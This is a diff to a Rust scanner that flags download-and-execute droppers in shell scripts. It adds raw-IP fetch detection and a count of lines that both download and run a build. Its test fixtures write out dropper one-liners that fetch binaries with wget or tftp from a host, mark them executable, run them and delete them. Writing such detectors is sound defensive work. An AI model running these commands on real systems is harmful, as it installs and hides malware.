@@ -525,6 +525,25 @@ fn writes_to(line: &str, target: &str) -> bool {
     false
 }
 
+/// Whether `word` is a dotted-quad IPv4 address (optionally with `:port`).
+fn is_ipv4(word: &str) -> bool {
+    let host = word.split(':').next().unwrap_or_default();
+    let parts: Vec<&str> = host.split('.').collect();
+    parts.len() == 4
+        && parts.iter().all(|part| {
+            !part.is_empty() && part.len() <= 3 && part.bytes().all(|b| b.is_ascii_digit())
+        })
+}
+
+/// Whether a fetch in `line` names its server by a raw IPv4 address: a URL's host,
+/// or a bare argument (`tftp 10.0.0.7 -c get x`, `ftpget … 10.0.0.7 x x`).
+fn fetches_from_ip(line: &str) -> bool {
+    has_ip_url(line)
+        || line
+            .split(|c: char| c.is_whitespace() || matches!(c, ';' | '"' | '\''))
+            .any(is_ipv4)
+}
+
 /// Whether a URL in `line` has a raw IPv4 address as its host.
 fn has_ip_url(line: &str) -> bool {
     line.match_indices("://").any(|(at, _)| {
@@ -592,7 +611,10 @@ fn runs_dropped(statement: &str, fetched_here: bool) -> Option<&str> {
     let statement = statement.strip_prefix("nohup ").unwrap_or(statement).trim();
     for dir in DROP_DIRS {
         if let Some(rest) = statement.strip_prefix(dir) {
-            return rest.split_whitespace().next().filter(|name| !name.is_empty());
+            return rest
+                .split_whitespace()
+                .next()
+                .filter(|name| !name.is_empty());
         }
     }
     let (name, first) = command(statement);
@@ -610,12 +632,14 @@ fn download_exec(lines: &[String]) -> Option<Reason> {
     // Files run and then deleted by the same line (`./x; rm -rf x`).
     let mut run_then_deleted: BTreeSet<String> = BTreeSet::new();
     let mut arches: BTreeSet<&str> = BTreeSet::new();
+    // Lines that both download and run a dropped file: one per build tried.
+    let mut tries = 0usize;
     for line in lines {
         let fetch = any_word(line, FETCHERS).is_some()
             || (line.contains("urlopen(") || line.contains("requests.get("));
         if fetch {
             fetches += 1;
-            from_ip |= has_ip_url(line);
+            from_ip |= fetches_from_ip(line);
         }
         let substituted = ["$(curl", "$(wget", "`curl", "`wget", "<(curl", "<(wget"]
             .iter()
@@ -645,7 +669,6 @@ fn download_exec(lines: &[String]) -> Option<Reason> {
         let mut ran: Vec<&str> = Vec::new();
         for statement in statements(line) {
             if let Some(name) = runs_dropped(statement, fetch) {
-                run_dropped = true;
                 ran.push(name);
             } else if command(statement).0 == "rm" {
                 for name in &ran {
@@ -654,6 +677,10 @@ fn download_exec(lines: &[String]) -> Option<Reason> {
                     }
                 }
             }
+        }
+        run_dropped |= !ran.is_empty();
+        if fetch && !ran.is_empty() {
+            tries += 1;
         }
         // Architecture names in what it fetches, or a list of builds in one
         // assignment (`bins="m.arm m.mips m.x86"`); not `arch=x86_64` lines spread
@@ -680,17 +707,29 @@ fn download_exec(lines: &[String]) -> Option<Reason> {
         score += 10;
         what.push(format!("{fetches} downloads (one per CPU architecture?)"));
     }
+    if score > 0 && tries >= 3 {
+        score += 20;
+        what.push(format!("{tries} lines each download and run a build"));
+    }
     // One file run and removed is what an installer does with its temporary copy;
     // several are a dropper trying its builds until one runs.
     if score > 0 && run_then_deleted.len() >= 2 {
         score += 20;
-        let names: Vec<&str> = run_then_deleted.iter().take(3).map(String::as_str).collect();
+        let names: Vec<&str> = run_then_deleted
+            .iter()
+            .take(3)
+            .map(String::as_str)
+            .collect();
         what.push(format!("deletes what it ran ({})", names.join(", ")));
     }
     if score > 0 && arches.len() >= 3 {
         score += 30;
         let names: Vec<&str> = arches.iter().copied().collect();
-        what.push(format!("builds for {} CPU architectures ({})", arches.len(), names.join(", ")));
+        what.push(format!(
+            "builds for {} CPU architectures ({})",
+            arches.len(),
+            names.join(", ")
+        ));
     }
     report(&DOWNLOAD_EXEC, score.min(100), what)
 }
@@ -1051,6 +1090,18 @@ mod tests {
                     .map(|name| {
                         format!(
                             "cd /tmp || cd /var/run || cd /; wget http://{host}/{name}; chmod +x {name}; ./{name}; rm -rf {name}"
+                        )
+                    })
+                    .collect(),
+                &[("script.download_exec", 100)],
+            ),
+            (
+                "tftp dropper: each build fetched from an IP and run in turn",
+                ["ntpd", "sshd", "openssh", "bash", "tftp"]
+                    .iter()
+                    .map(|name| {
+                        format!(
+                            "cd /tmp || cd /; tftp {host} -c get {name};cat {name} >box;chmod +x *;./box"
                         )
                     })
                     .collect(),
